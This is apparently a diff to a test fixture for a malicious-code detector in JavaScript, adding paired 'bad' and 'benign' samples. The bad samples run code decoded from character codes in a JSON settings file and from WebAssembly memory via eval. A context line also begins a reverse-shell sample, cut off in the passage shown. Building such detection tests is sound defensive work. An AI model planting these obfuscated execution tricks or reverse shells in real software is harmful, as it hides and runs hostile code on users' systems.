@@ -158,6 +158,20 @@ transport.send = async (message) => { console.error(Date.now()); return send(mes
     benign: `import { execSync } from 'node:child_process'; const found = execSync('trufflehog filesystem . --json').toString(); console.error(found.length);`,
   },
   {
+    way: 'the codes of characters in a file of settings',
+    rule: 'decoded-code-executed',
+    bad: `const data = require('./locale.json'); new Function(Object.values(data).map((one) => String.fromCharCode(one)).join(''))();`,
+    benign: `const column = (at) => String.fromCharCode(65 + at);
+export const formula = (count, body) => new Function(...Array.from({ length: count }, (_, at) => column(at)), body);`,
+    more: { 'locale.json': '{"a": 97, "b": 40, "c": 41}' },
+  },
+  {
+    way: 'the memory of a program without source',
+    rule: 'decoded-code-executed',
+    bad: `const made = new WebAssembly.Instance(new WebAssembly.Module(bytes), { env: { run: (at, size) => eval(new TextDecoder().decode(new Uint8Array(made.exports.memory.buffer, at, size))) } }); made.exports.main();`,
+    benign: `const made = new WebAssembly.Instance(new WebAssembly.Module(bytes), { env: { print: (at, size) => console.error(new TextDecoder().decode(new Uint8Array(made.exports.memory.buffer, at, size))) } }); made.exports.main();`,
+  },
+  {
     way: 'the arguments of a timer',
     rule: 'reverse-shell',
     bad: `import net from 'node:net'; import { pipeline } from 'node:stream'; import cp from 'node:child_process';
